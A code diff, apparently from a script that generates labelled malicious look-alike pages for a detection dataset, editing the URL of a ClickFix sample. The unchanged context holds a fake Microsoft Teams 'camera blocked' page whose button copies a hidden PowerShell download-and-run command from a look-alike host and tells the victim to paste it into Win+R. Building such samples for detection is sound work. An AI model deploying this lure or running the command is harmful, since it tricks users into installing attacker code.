@@ -243,7 +243,7 @@ CF_CSS = 'body{background:#f5f5f5;font-family:"Segoe UI",Arial,sans-serif}.cf{wi
 b = f'''<div class="cf"><div style="display:flex;gap:10px;align-items:center">{mark('T', '#5b5fc7', 36)}<strong>Microsoft Teams</strong></div><h2>Teams could not start your camera</h2><p>Your camera driver is blocked. Click <strong>Fix it</strong>, then:</p>
 <ol><li>Press <kbd>Win</kbd>+<kbd>R</kbd></li><li>Press <kbd>Ctrl</kbd>+<kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol>
 <button class="btn" style="background:#5b5fc7" onclick="navigator.clipboard.writeText('powershell -w hidden -c &quot;iwr https://teams-cam-fix.net/d.ps1 | iex&quot;')">Fix it</button><p class="muted">Microsoft &copy; 2026</p></div>'''
-page('twin-teams-camera-clickfix', 'teams-meet-join.net', '/l/meetup-join/19%3ameeting_Nzk/', 'danger',
+page('twin-teams-camera-clickfix', 'teams-meet-join.net', '/l/meetup-join/19-meeting-nzk/', 'danger',
      'Twin of kb-teams-camera-reset turned into ClickFix: a Microsoft Teams card "Teams could not start your camera", Fix it copies a hidden PowerShell download-and-run, Win+R / Ctrl+V / Enter, on a meeting look-alike host',
      'https://meritsolutions.net/?p=2832 ; https://detection.fyi/sigmahq/sigma/windows/process_creation/proc_creation_win_susp_clickfix_filefix_execution', F, b, 'Microsoft Teams', CF_CSS, provider='microsoft')
 
